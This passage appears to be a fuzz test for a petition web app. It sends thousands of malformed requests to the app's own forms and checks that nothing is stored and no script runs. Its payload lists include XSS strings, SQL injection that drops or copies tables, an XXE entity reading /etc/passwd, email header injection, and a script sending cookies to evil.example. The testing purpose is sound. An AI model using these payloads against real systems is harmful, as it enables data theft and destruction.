/**
 * Fuzzing the public surface of a running production server with bad input.
 *
 * Over 10,000 generated requests — every one of them invalid — go to every public form and JSON
 * API: the signing form, the letter composer, confirmation by link and by code, the withdraw link,
 * the data-export request, the JSON API, the proof-of-work challenge, the language switch, the
 * unsubscribe link, and unknown languages, campaigns and paths. The server must answer each with a
 * 4xx or an ordinary 2xx/3xx page, never a 5xx, and must store nothing: the rows in `signatures`,
 * `messages` and `outbox` (and their token and delivery tables), the confirmed counts of the JSON
 * API and the captured mail are the same after the run as before it; a signature made before the
 * run (the sentinel) is still there, unconfirmed, after it. Then Chromium opens every public page
 * the fuzz reached, in English and Burmese, and sends the forms hostile values itself: no payload
 * may open a dialog, set a global, fetch from another host or leave a script handler in the page.
 *
 * Every form input is proved invalid before it is sent: the body is parsed here exactly as the
 * server parses it (`Request.formData()`) and run through the app's own schema, and an input the
 * schema would accept is never sent (the generator is then at fault, and a test below says so).
 * A withdraw link is proved wrong with the server's secret, which the test sets.
 *
 * To add a public form: add a `formEndpoint({...})` to `endpoints` below with the paths it answers
 * on, a generator of bad field sets (a `FormSpec`: one field is always broken by construction) and
 * a `rejects(form)` that runs the app's schema for that form. Other URLs are `endpoint({...})` with
 * a request generator (and, for a link that acts, a `refutes(request)` proving it cannot). `runs`
 * is each endpoint's share of the requests. Add the pages it renders to `publicPages` (the browser check).
 *
 * FUZZ_SEED=<n> replays another sequence (the seed is printed with every failure); FUZZ_SCALE=<k>
 * multiplies the number of requests (a longer run for a nightly job).
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { chromium, type Page } from "@playwright/test";
import fc from "fast-check";
import { sql } from "kysely";
import { simpleParser } from "mailparser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDatabase, type DB } from "../../db/index";
import { seedCampaigns } from "../../db/seed/campaigns";
import { isCountryCode } from "../../app/lib/countries";
import { supportedLanguages } from "../../app/lib/i18n";
import { canonicalCode } from "../../app/models/signature-codes.server";
import { checkDeleteMac, deleteMac } from "../../app/models/withdrawal.server";
import { parseMessageForm } from "../../app/schemas/message.server";
import { parseSignatureForm, signatureFormSchema } from "../../app/schemas/signature.server";
import { startServer, type RunningServer } from "../helpers/server";

const SEED = Number(process.env.FUZZ_SEED ?? 20_261_126);
const SCALE = Number(process.env.FUZZ_SCALE ?? 1);
const CONCURRENCY = 16;
const MIN_INPUTS = 10_000;
/** The tables a bad input must never add a row to. */
const TABLES = ["signatures", "signature_tokens", "messages", "message_deliveries", "outbox"] as const;

const SLUGS = seedCampaigns.map((c) => c.slug);
const LANGS: readonly string[] = supportedLanguages;
/** The server's secret, set here so that a withdraw link can be proved wrong before it is sent. */
const APP_SECRET = `padauk-fuzz-secret-${SEED}-0123456789abcdef`;
/** What the script payloads set when they run: the browser check looks for any global with this prefix. */
const RAN = "__padaukFuzzRan";

// ---------------------------------------------------------------------------------------------
// Requests

type Bytes = Uint8Array<ArrayBuffer>;
type Method = "GET" | "HEAD" | "POST" | "PUT" | "PATCH" | "DELETE" | "OPTIONS";

/** One request as it goes on the wire (path already percent-encoded, body already serialised). */
interface FuzzRequest {
  endpoint: string;
  method: Method;
  path: string;
  headers: Record<string, string>;
  body?: string | Bytes;
  /** How the body was built, for the report. */
  note: string;
  /** Why the app must refuse it when its schema alone cannot tell (e.g. an unknown target id). */
  routeRejects?: string;
}

/** A form's fields in order; a value may be a file part where text is expected (sent as such in multipart bodies only). */
type Field = [name: string, value: string | { file: string }];
interface FormSpec {
  fields: Field[];
  /** Which field is broken, and how: always set, so every input is invalid by construction. */
  broken: string;
  routeRejects?: string;
}

/** What a form route does with a parsed body: true when it must store nothing. */
type Rejects = (form: FormData) => boolean;

interface Endpoint {
  name: string;
  runs: number;
  /** Generates the endpoint's requests; async because multipart bodies are serialised by `Response`. */
  generate(count: number, seed: number): Promise<FuzzRequest[]>;
  /** For form routes: proves the body invalid the way the server reads it. */
  rejects?: Rejects;
  /** For a link that acts (the withdraw link): why this request could act, or null when it cannot. */
  refutes?: (req: FuzzRequest) => string | null;
  /** A form route: most of its answers must come from its validator (400). */
  isForm?: boolean;
}

// ---------------------------------------------------------------------------------------------
// Values: the raw material of bad input

const range = (from: number, to: number, maxLength = 24) =>
  fc.string({ unit: fc.integer({ min: from, max: to }).map((c) => String.fromCodePoint(c)), minLength: 1, maxLength });

/** Text as Zawgyi-encoded Burmese writes it (visually Burmese, code points in Zawgyi's order). */
const ZAWGYI = ["ျမန္မာ", "မဂၤလာပါ", "ေက်းဇူးတင္ပါတယ္", "အင္အားၾကီး", "ၿငိမ္းခ်မ္းေရး", "ဒီမိုကေရစီ"];
/**
 * Script that leaves a mark when it runs, in every context a value can land in: element content,
 * an attribute, a URL, an inline script (Remix's hydration data) and a JavaScript string. The
 * browser check looks for the global; most fit the 40 characters the code field keeps.
 */
const RUNS_SCRIPT = [
  `<script>${RAN}=1</script>`,
  `<img src=x onerror=${RAN}=1>`,
  `"><svg onload=${RAN}=1>`,
  `'><body onload=${RAN}=1>`,
  `javascript:${RAN}=1`,
  `<a href="javascript:${RAN}=1">x</a>`,
  `</script><script>${RAN}=1</script>`,
  `\u2028</script><script>${RAN}=1//`,
  `';${RAN}=1;//`,
  `"-(${RAN}=1)-"`,
  `<details open ontoggle=${RAN}=1>`,
  `<iframe src="javascript:parent.${RAN}=1">`,
  `<form><button formaction=javascript:${RAN}=1>x`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RAN}=1>`,
  `<input autofocus onfocus=${RAN}=1>`,
];
const PAYLOADS = [
  ...RUNS_SCRIPT,
  // SQL
  "' OR '1'='1",
  "'; DROP TABLE signatures; --",
  "1); DELETE FROM outbox; --",
  "' UNION SELECT email_enc FROM signatures --",
  "'; SELECT pg_sleep(10); --",
  "$$; TRUNCATE messages; $$",
  "\\'; COPY signatures TO '/tmp/x'; --",
  "E'\\x00'",
  // HTML and script
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  '"><svg/onload=alert(1)>',
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
  "javascript:alert(1)",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "{{constructor.constructor('alert(1)')()}}",
  "[click](javascript:alert(1))",
  "<!--",
  "]]>",
  "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
  // header injection
  "x\r\nBcc: victim@example.org",
  "x\r\n\r\n<html>injected</html>",
  "x\nSubject: free money",
  "x\rContent-Type: text/html",
  "x%0d%0aSet-Cookie:%20padauk_session=evil",
  "=?utf-8?b?PHNjcmlwdD4=?=",
  // formats, prototypes, numbers
  "%s%s%s%n",
  "${process.env.APP_SECRET}",
  "{{name}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "NaN",
  "-1",
  "1e309",
  "[]",
  "{}",
  "null",
  "undefined",
  "true",
  // Unicode edge cases
  "\uFEFF",
  "\u200B\u200C\u200D",
  "\u2028\u2029",
  "e\u0301\u0301\u0301\u0301",
  "\u202Egnp.exe",
  "\u2066x\u2069",
  "Z̷̡̛̪͓̗̫̈́̑͋a̸̢̰͚̔l̷̰̀̏g̸̢͓̈́o̶̼͒",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "𝕳𝖊𝖑𝖑𝖔",
  "\uFFFD\uFFFE\uFFFF",
  "\u0000",
  "../../../../etc/passwd",
  "C:\\Windows\\System32",
];
// Zawgyi text this long is left out of the random mix: the server converts a field before it checks its length, and
// 120,000 Zawgyi characters keep its one thread busy for seconds, which would make this run's time a matter of luck.
const HUGE = [
  "A".repeat(100_001),
  "ဿ".repeat(34_000), // 102 KB of Burmese
  "\u0000".repeat(100_000),
  "🏳️‍🌈".repeat(10_000),
  "<script>".repeat(15_000),
  "'".repeat(120_000),
  "%".repeat(100_000),
  "a@".repeat(60_000),
];

const smallNasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) }, // any code point: astral, controls, unassigned
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 3, arbitrary: range(0x1000, 0x109f) }, // the Burmese block, where Zawgyi lives
  { weight: 2, arbitrary: fc.constantFrom(...ZAWGYI) },
  { weight: 2, arbitrary: fc.oneof(range(0x0590, 0x05ff), range(0x0600, 0x06ff), fc.constantFrom("\u202E", "\u200F", "\u061C", "\u2067")) }, // RTL
  { weight: 2, arbitrary: fc.oneof(range(0x00, 0x1f, 8), range(0x7f, 0x9f, 8)) }, // control characters, NUL
  { weight: 2, arbitrary: range(0xd800, 0xdfff, 3).map((s) => s.split("").join("x")) }, // lone surrogates
  { weight: 1, arbitrary: range(0x10000, 0x10ffff, 6) }, // astral
  { weight: 6, arbitrary: fc.constantFrom(...PAYLOADS) },
);
/** Mostly short nasty strings, a few pieced together, and rarely a field of 100 KB or more. */
const nasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 500, arbitrary: smallNasty },
  { weight: 100, arbitrary: fc.array(smallNasty, { minLength: 2, maxLength: 4 }).map((a) => a.join("")) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
);
const nonEmptyNasty = nasty.filter((s) => s.length > 0);

// ---------------------------------------------------------------------------------------------
// Encodings: bytes as a broken client sends them

/** UTF-8, except that a lone surrogate is written as its own three bytes (WTF-8), as no valid encoder would. */
function wtf8(s: string): Bytes {
  const out: number[] = [];
  for (let i = 0; i < s.length; i++) {
    let c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff && i + 1 < s.length) {
      const d = s.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) {
        c = 0x10000 + ((c - 0xd800) << 10) + (d - 0xdc00);
        i++;
      }
    }
    if (c < 0x80) out.push(c);
    else if (c < 0x800) out.push(0xc0 | (c >> 6), 0x80 | (c & 63));
    else if (c < 0x10000) out.push(0xe0 | (c >> 12), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
    else out.push(0xf0 | (c >> 18), 0x80 | ((c >> 12) & 63), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
  }
  return Uint8Array.from(out);
}

const HEX = "0123456789ABCDEF";
/** Percent-encodes every byte but the unreserved ones; the bytes may be invalid UTF-8. */
function pct(bytes: Uint8Array): string {
  let s = "";
  for (const b of bytes) {
    s += (b >= 0x30 && b <= 0x39) || (b >= 0x41 && b <= 0x5a) || (b >= 0x61 && b <= 0x7a) || b === 0x2d || b === 0x2e || b === 0x5f || b === 0x7e
      ? String.fromCharCode(b)
      : "%" + HEX[b >> 4] + HEX[b & 15];
  }
  return s;
}
const pctText = (s: string) => pct(wtf8(s));

/** Bytes a header value may hold on the wire (RFC 9110 field-vchar, space, tab, obs-text); Node's client sends no others. */
const HEADER_BYTES = /^[\t\x20-\x7e\x80-\xff]*$/;
/** A header value the client can send: the UTF-8 bytes (lone surrogates too) as Latin-1, control characters dropped. */
function headerValue(s: string): string {
  return Buffer.from(wtf8(s)).toString("latin1").replace(/[^\t\x20-\x7e\x80-\xff]/g, "").slice(0, 4000).trim();
}

function concat(parts: (string | Uint8Array)[]): Bytes {
  const bufs = parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : Buffer.from(p)));
  return new Uint8Array(Buffer.concat(bufs));
}

const BROKEN_ESCAPES = ["%", "%%", "%Z", "%ZZ", "%G1", "%E0%A4", "%ED%A0%80", "%ED%BF%BF", "%C0%AF", "%C0%80", "%FF%FE", "%F4%90%80%80", "%00", "%u0041", "%F0%9F%98", "%2", "a%"];

// ---------------------------------------------------------------------------------------------
// URL pieces

const langSeg = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...LANGS) },
  { weight: 1, arbitrary: fc.constantFrom("xx", "EN", "En", "en-US", "my_MM", "zz", "ar", "he", "__proto__", "constructor", "..", "%2e%2e", "e%6E", "en%00", "", "%5C", "%5C%20x", "%5Cevil.example") },
  { weight: 1, arbitrary: nonEmptyNasty.map((s) => pctText(s.slice(0, 50))) },
);
const garbageSeg = fc.oneof(
  { weight: 4, arbitrary: nonEmptyNasty.map((s) => pctText(s.slice(0, 300))) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...BROKEN_ESCAPES), fc.string({ unit: "binary-ascii", maxLength: 6 })).map(([e, s]) => e + pctText(s)) },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{43}$/) }, // well-formed, unknown
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{1,60}$/) },
  { weight: 1, arbitrary: fc.constantFrom("..", "%2e%2e", ".", "%2F", "..%2F..%2Fetc%2Fpasswd", "%252F", "index", "_index", "null", "undefined", "__proto__", "constructor", "0", "-1", "9".repeat(40), "A".repeat(2000)) },
);
const slugSeg = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...SLUGS) }, { weight: 2, arbitrary: garbageSeg });
const queryKey = fc.oneof(
  fc.constantFrom("source", "country", "area", "to", "_data", "index", "lang", "lng", "page", "limit", "offset", "slug", "__proto__", "constructor", "a[]", "a[b]", "", "%", "%ZZ"),
  nonEmptyNasty.map((s) => pctText(s.slice(0, 40))),
);
const queryValue = fc.oneof(
  { weight: 4, arbitrary: nasty.map((s) => pctText(s.slice(0, 2000))) },
  { weight: 2, arbitrary: fc.constantFrom(...BROKEN_ESCAPES) },
  { weight: 1, arbitrary: fc.constantFrom("routes/$lang.campaigns.$slug", "root", "-1", "99999999999999999999", "MM", "mm", "ZZ", "1e3", "true") },
);
const query = fc.oneof(
  { weight: 2, arbitrary: fc.constant("") },
  { weight: 6, arbitrary: fc.array(fc.tuple(queryKey, queryValue), { minLength: 1, maxLength: 6 }).map((kv) => "?" + kv.map(([k, v]) => `${k}=${v}`).join("&")) },
  { weight: 1, arbitrary: fc.constantFrom("?", "?&&&", "?=", "?==&=", "?%", "?a=%ZZ&a=%E0%A4", "?source", "?_data=root&_data=root", "?" + "a=1&".repeat(3000)) },
  { weight: 1, arbitrary: fc.constant("?x=" + "A".repeat(20_000)) }, // past Node's header limit: 431
);

// ---------------------------------------------------------------------------------------------
// Headers

/** Stands for the server's own origin (its port is known only once it runs): `send` puts it in, as a browser on the site would. */
const SELF_ORIGIN = "self:origin";
const headerJunk = nonEmptyNasty.map((s) => headerValue(s.slice(0, 500)));
/** Present in about one request in `1 + absent`. */
const sometimes = <T>(arb: fc.Arbitrary<T>, absent = 3) => fc.oneof({ weight: absent, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: arb });
const headersArb: fc.Arbitrary<Record<string, string>> = fc
  .record({
    "accept-language": sometimes(fc.oneof(headerJunk, fc.constantFrom("*", "my-MM,my;q=0.9", "xx;q=abc", ";;;,,,", "en;q=1.5", "th;q=-1", "q=0.5", "x".repeat(3000))), 1),
    cookie: sometimes(
      fc.oneof(
        fc.tuple(headerJunk, headerJunk, headerJunk).map(([a, b, c]) => `lang=${a}; padauk_session=${b}; padauk_signer=${c}`),
        fc.constantFrom("padauk_session=eyJvcmdhbmlzZXJJZCI6MX0%3D.forged", "lang=ImVuIg%3D%3D.bad", "lang=%ZZ", "=; =; ;;", "padauk_session=" + "A".repeat(4000)),
      ),
    ),
    origin: sometimes(fc.constantFrom("null", "https://evil.example", "http://127.0.0.1", "file://", "http://[::1]", "not a url", SELF_ORIGIN, SELF_ORIGIN)),
    "user-agent": sometimes(fc.oneof(headerJunk, fc.constantFrom("Googlebot/2.1 (+http://www.google.com/bot.html)", "curl/8.5.0", "Mozilla/5.0 (compatible; bingbot/2.0)"))),
    "x-forwarded-for": sometimes(fc.oneof(headerJunk, fc.constantFrom("1.2.3.4, 127.0.0.1", "::1", "unknown", "999.999.999.999"))),
    "x-forwarded-host": sometimes(fc.oneof(headerJunk, fc.constantFrom("evil.example", "127.0.0.1", "")), 15),
    accept: sometimes(fc.constantFrom("text/x-script", "application/json", "*/*", "text/html;q=abc", "image/*")),
    referer: sometimes(headerJunk),
    // Mostly uncompressed answers: gzip and brotli cost the one server core more than they test.
    "accept-encoding": fc.oneof({ weight: 12, arbitrary: fc.constant("identity") }, { weight: 1, arbitrary: fc.constantFrom("gzip", "br", "deflate, gzip;q=0", "*", "x-garbage") }),
  })
  .map((h) => Object.fromEntries(Object.entries(h).filter(([, v]) => v !== undefined)) as Record<string, string>);

// ---------------------------------------------------------------------------------------------
// Form bodies

type Envelope =
  | "urlencoded"
  | "urlencoded-wtf8"
  | "urlencoded-raw-bytes"
  | "urlencoded-broken-escapes"
  | "multipart"
  | "multipart-broken"
  | "json"
  | "json-as-form"
  | "text-plain"
  | "no-content-type"
  | "empty"
  | "odd-content-type"
  | "many-fields";

const envelopeArb: fc.Arbitrary<Envelope> = fc.oneof(
  { weight: 30, arbitrary: fc.constant<Envelope>("urlencoded") },
  { weight: 8, arbitrary: fc.constant<Envelope>("urlencoded-wtf8") },
  { weight: 6, arbitrary: fc.constant<Envelope>("urlencoded-raw-bytes") },
  { weight: 6, arbitrary: fc.constant<Envelope>("urlencoded-broken-escapes") },
  { weight: 14, arbitrary: fc.constant<Envelope>("multipart") },
  { weight: 8, arbitrary: fc.constant<Envelope>("multipart-broken") },
  { weight: 4, arbitrary: fc.constant<Envelope>("json") },
  { weight: 2, arbitrary: fc.constant<Envelope>("json-as-form") },
  { weight: 3, arbitrary: fc.constant<Envelope>("text-plain") },
  { weight: 2, arbitrary: fc.constant<Envelope>("no-content-type") },
  { weight: 2, arbitrary: fc.constant<Envelope>("empty") },
  { weight: 3, arbitrary: fc.constant<Envelope>("odd-content-type") },
  { weight: 1, arbitrary: fc.constant<Envelope>("many-fields") },
);

const URLENCODED = "application/x-www-form-urlencoded";
const fieldText = (v: Field[1]) => (typeof v === "string" ? v : v.file);

interface Serialised {
  headers: Record<string, string>;
  body?: string | Bytes;
}

/** Serialises fields as one of the many ways a client can get a form body wrong (or right). */
async function serialise(fields: Field[], envelope: Envelope, pick: number): Promise<Serialised> {
  const textFields = fields.map(([k, v]) => [k, fieldText(v)] as [string, string]);
  switch (envelope) {
    case "urlencoded":
      return { headers: { "content-type": URLENCODED }, body: new URLSearchParams(textFields).toString() };
    case "urlencoded-wtf8":
      return { headers: { "content-type": URLENCODED }, body: textFields.map(([k, v]) => `${pctText(k)}=${pctText(v)}`).join("&") };
    case "urlencoded-raw-bytes": {
      // Unescaped bytes, lone surrogates included; only the separators are escaped so the fields stay apart.
      const raw = (s: string) => Buffer.from(wtf8(s)).toString("latin1").replace(/[%&=+]/g, (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase());
      return { headers: { "content-type": `${URLENCODED}; charset=utf-8` }, body: concat([textFields.map(([k, v]) => `${raw(k)}=${raw(v)}`).join("&")]) };
    }
    case "urlencoded-broken-escapes": {
      const parts = textFields.map(([k, v]) => `${pctText(k)}=${pctText(v)}`);
      const i = pick % (parts.length + 1);
      const bad = BROKEN_ESCAPES[pick % BROKEN_ESCAPES.length];
      if (i < parts.length) parts[i] += bad;
      parts.push(`${bad}=${bad}`, bad, "&&", "=");
      return { headers: { "content-type": URLENCODED }, body: parts.join("&") };
    }
    case "multipart": {
      const fd = new FormData();
      for (const [k, v] of fields) {
        if (typeof v === "string") fd.append(k, v);
        else fd.append(k, new Blob([wtf8(v.file)], { type: "application/octet-stream" }), v.file.slice(0, 40) || "x");
      }
      const r = new Request("http://fuzz.invalid/", { method: "POST", body: fd });
      return { headers: { "content-type": r.headers.get("content-type")! }, body: new Uint8Array(await r.arrayBuffer()) };
    }
    case "multipart-broken": {
      const boundary = "----fuzz" + pick.toString(36);
      const part = ([k, v]: [string, string]) =>
        concat([`--${boundary}\r\nContent-Disposition: form-data; name="${Buffer.from(wtf8(k)).toString("latin1")}"\r\n\r\n`, wtf8(v), "\r\n"]);
      const whole = concat([...textFields.map(part), `--${boundary}--\r\n`]);
      switch (pick % 8) {
        case 0: // the header names another boundary
          return { headers: { "content-type": "multipart/form-data; boundary=nothing" }, body: whole };
        case 1: // no boundary at all
          return { headers: { "content-type": "multipart/form-data" }, body: whole };
        case 2: // cut short: no closing boundary
          return { headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, body: whole.slice(0, Math.max(0, whole.length - 10 - (pick % 40))) };
        case 3: // an unbalanced quote, an over-long boundary
          return { headers: { "content-type": `multipart/form-data; boundary="${boundary}` }, body: whole };
        case 4:
          return { headers: { "content-type": `multipart/form-data; boundary=${"b".repeat(200)}` }, body: whole };
        case 5: // header injection and NUL inside a part's headers, a part without a name
          return {
            headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
            body: concat([
              `--${boundary}\r\nContent-Disposition: form-data; name="email"\r\nX-Injected: a\rb\0c\r\n\r\nnot-an-address\r\n`,
              `--${boundary}\r\nContent-Disposition: form-data\r\n\r\nnameless\r\n`,
              `--${boundary}\r\nContent-Disposition: form-data; name="email"; filename="../../etc/passwd"\r\nContent-Type: text/plain\r\n\r\nx\r\n`,
              whole,
            ]),
          };
        case 6: // garbage where the parts should be
          return { headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, body: wtf8(textFields.map(([, v]) => v).join("\r\n")) };
        default: // LF-only line endings
          return { headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, body: concat([Buffer.from(whole).toString("latin1").replace(/\r\n/g, "\n")]) };
      }
    }
    case "json":
      return { headers: { "content-type": pick % 2 ? "application/json" : "application/json; charset=utf-8" }, body: JSON.stringify(Object.fromEntries(textFields)) };
    case "json-as-form": // a JSON body labelled as a form: one long key, no known field
      return { headers: { "content-type": URLENCODED }, body: JSON.stringify(Object.fromEntries(textFields)) };
    case "text-plain":
      return { headers: { "content-type": "text/plain" }, body: textFields.map(([k, v]) => `${k}=${v}`).join("\r\n") };
    case "no-content-type":
      return { headers: {}, body: wtf8(new URLSearchParams(textFields).toString()) };
    case "empty":
      return { headers: { "content-type": pick % 2 ? URLENCODED : "multipart/form-data; boundary=x" }, body: "" };
    case "odd-content-type": {
      const body = new URLSearchParams(textFields).toString();
      const odd = [
        "APPLICATION/X-WWW-FORM-URLENCODED",
        `${URLENCODED}; charset=utf-16le`,
        `${URLENCODED}; charset=no-such-charset`,
        `${URLENCODED}, text/html`,
        "multipart/mixed; boundary=x",
        "application/xml",
        "application/octet-stream",
        "text/html; charset=\u00ff",
        "*/*",
        ";;;",
      ];
      const headers: Record<string, string> = { "content-type": odd[pick % odd.length] };
      if (pick % 3 === 0) headers["content-encoding"] = "gzip"; // says gzip, is not
      return { headers, body: pick % 5 === 1 ? Buffer.from(body, "utf16le").toString("latin1") : body };
    }
    case "many-fields": {
      // Thousands of junk fields after the real ones: about a megabyte.
      const junk = Array.from({ length: 20_000 }, (_, i) => `f${i}=${"x".repeat(40)}`).join("&");
      return { headers: { "content-type": URLENCODED }, body: new URLSearchParams(textFields).toString() + "&" + junk };
    }
  }
}

const methodForForm = fc.constantFrom<Method>("POST", "POST", "POST", "POST", "POST", "POST", "POST", "POST", "PUT", "PATCH", "DELETE");

/** A request before its form (if any) is serialised. */
interface RequestShape {
  method: Method;
  path: string;
  headers?: Record<string, string>;
  body?: string | Bytes;
  /** A form body, serialised in one of the envelopes. */
  form?: { spec: FormSpec; envelope: Envelope; pick: number } | null;
}

/** Any public URL: a generator of requests, and for a form route the app's check that proves a parsed body refused. */
function endpoint(opts: { name: string; runs: number; request: fc.Arbitrary<RequestShape>; rejects?: Rejects; refutes?: Endpoint["refutes"] }): Endpoint {
  const arb = fc.tuple(opts.request, headersArb);
  return {
    name: opts.name,
    runs: opts.runs,
    rejects: opts.rejects,
    refutes: opts.refutes,
    async generate(count, seed) {
      return Promise.all(
        fc.sample(arb, { numRuns: count, seed }).map(async ([{ form, ...r }, h]): Promise<FuzzRequest> => {
          const req: FuzzRequest = { note: "", ...r, endpoint: opts.name, headers: { ...h, ...r.headers } };
          if (!form) return req;
          const { headers, body } = await serialise(form.spec.fields, form.envelope, form.pick);
          return { ...req, headers: { ...req.headers, ...headers }, body, note: `${form.envelope}, broken: ${form.spec.broken}`, routeRejects: form.spec.routeRejects };
        }),
      );
    },
  };
}

const formBody = (spec: fc.Arbitrary<FormSpec>) => fc.record({ spec, envelope: envelopeArb, pick: fc.nat() });

/**
 * A public form: its paths, a generator of bad field sets, and the app's own check that proves a
 * parsed body will be refused. Document and single-fetch (`.data`) submissions are both sent.
 */
function formEndpoint(opts: { name: string; runs: number; path: fc.Arbitrary<string>; form: fc.Arbitrary<FormSpec>; rejects: Rejects }): Endpoint {
  const e = endpoint({
    name: opts.name,
    runs: opts.runs,
    rejects: opts.rejects,
    request: fc
      .record({
        path: opts.path,
        // Mostly by single fetch: a document POST renders the whole campaign page, five times the work for the one server core.
        data: fc.integer({ min: 0, max: 9 }).map((n) => n > 0),
        q: fc.oneof({ weight: 9, arbitrary: fc.constant("") }, { weight: 1, arbitrary: query }),
        method: methodForForm,
        form: formBody(opts.form),
      })
      .map(({ path, data, q, method, form }) => ({ method, path: `${path}${data ? ".data" : ""}${q}`, form })),
  });
  return { ...e, isForm: true };
}

// ---------------------------------------------------------------------------------------------
// Bad field sets, each broken by construction in one named way

const validName = fc.constantFrom("Aung San", "Ma Thida", "ဒေါ်ခင်ခင်ဝင်း", "José Ñúñez", "O'Brien", "สมชาย ใจดี", "Nguyễn Văn A", "李雷");
const validCountry = fc.constantFrom("MM", "TH", "FR", "us", " id ", "ES");
const validEmail = fc.nat({ max: 1_000_000 }).map((n) => `fuzz-${n}@example.org`);
const checkboxOn = fc.constantFrom("on", "true", "1", "yes");
// What a bot fills in: never only a byte-order mark, which a multipart parser drops, leaving the honeypot empty.
const honeypotValue = nonEmptyNasty.map((v) => "http://spam.example/" + v);

const badEmail: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 2, arbitrary: fc.constant(undefined) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "", " ", "@", "a@", "@example.org", "a@@example.org", "a@example", "a@example.", "a@.org", ".a@example.org", "a..b@example.org",
      "a@example..org", "a b@example.org", "a@exa mple.org", "<a@example.org>", "a@example.org>", '"a"@example.org', "a@-example.org",
      "a@example.c", "a@[127.0.0.1]", "a@127.0.0.1", "a@ex_ample.org", "mailto:a@example.org", "a@example.org,b@example.org",
      "a@example.org;b@example.org", "a@exämple.org", "ä@example.org", "a@example.org\u0000", "a@example.org\r\nBcc: victim@example.org",
      "a@example.org\nSubject: hi", "a@example.org%0d%0abcc:x@example.org", "'; DROP TABLE signatures;--@example.org",
      "<script>alert(1)</script>@example.org", "a@example.org<img src=x onerror=alert(1)>", "a@example.org\u202E", "a\u200B@example.org",
      "ａ@ｅｘａｍｐｌｅ.ｏｒｇ", "a＠example.org",
    ),
  },
  { weight: 5, arbitrary: nasty.map((s) => s.replace(/@/g, "")) }, // no @ at all
  { weight: 2, arbitrary: fc.tuple(smallNasty, smallNasty).map(([a, b]) => `${a}@${b}@example.org`) }, // two of them
  { weight: 1, arbitrary: fc.integer({ min: 243, max: 2000 }).map((n) => "a".repeat(n) + "@example.org") }, // longer than 254
);
const badName: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.constantFrom("", "   ", "\t\n", "ก".repeat(101), "A".repeat(100_001), "Visit https://spam.example", "www.spam", "me@example.org", "cheap.xyz", "x\u202Ey", "a\u2066b"),
  fc.tuple(smallNasty, range(0x00, 0x1f, 3), smallNasty).map(([a, c, b]) => `Ma ${a}${c}${b}`), // a control character inside
);
const badCountry: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.constantFrom("", " ", "ZZ", "XX", "UK", "EU", "M", "MMR", "1", "M\u0000", "ＭＭ", "' OR 1=1 --"),
  nasty.filter((s) => !isCountryCode(s.trim().toUpperCase())),
);
const badCheckbox = fc.oneof(fc.constantFrom("", "off", "false", "0", "no", "ON", "on ", "checked", "2"), nonEmptyNasty.filter((s) => !["on", "true", "1", "yes"].includes(s)));
/** Values for the fields that are not the broken one: often valid, so the broken field is what is tested. */
const either = <T>(valid: fc.Arbitrary<T>) => fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: nasty }, { weight: 1, arbitrary: fc.constant(undefined) });
const extraFields = fc.array(
  fc.tuple(
    fc.oneof(fc.constantFrom("__proto__", "constructor", "email[]", "name[]", "email.0", "", "website ", "_action", "intent", "id", "campaign_id", "status"), nonEmptyNasty.map((s) => s.slice(0, 80))),
    nasty,
  ),
  { maxLength: 3 },
);

/**
 * Assembles the fields: the broken one replaces every occurrence of its field (so a repeated field
 * cannot smuggle in a good value), then repeats, extras, and maybe one field as a file part.
 */
function assemble(
  base: Record<string, string | undefined>,
  broken: [field: string, value: string | undefined, label: string],
  dupes: [string, string][],
  extras: [string, string][],
  asFile: number | null,
): Field[] {
  const [bf, bv] = broken;
  const fields: Field[] = [];
  for (const [k, v] of Object.entries({ ...base, [bf]: bv })) if (v !== undefined) fields.push([k, v]);
  for (const [k, v] of dupes) if (k !== bf && k !== "website") fields.push([k, v]);
  for (const [k, v] of extras) if (!Object.hasOwn(base, k) && k !== bf && k !== "website") fields.push([k, v]);
  // A file part where text is expected reads as a missing field: never the broken one, which could then read as valid.
  const others = fields.map((_, i) => i).filter((i) => fields[i][0] !== bf);
  if (asFile !== null && others.length) {
    const i = others[asFile % others.length];
    fields[i] = [fields[i][0], { file: fieldText(fields[i][1]) }];
  }
  return fields;
}

const signatureForm: fc.Arbitrary<FormSpec> = fc
  .record({
    name: either(validName),
    email: either(validEmail),
    country: either(validCountry),
    consent_updates: fc.option(checkboxOn, { nil: undefined }),
    show_name: fc.option(checkboxOn, { nil: undefined }),
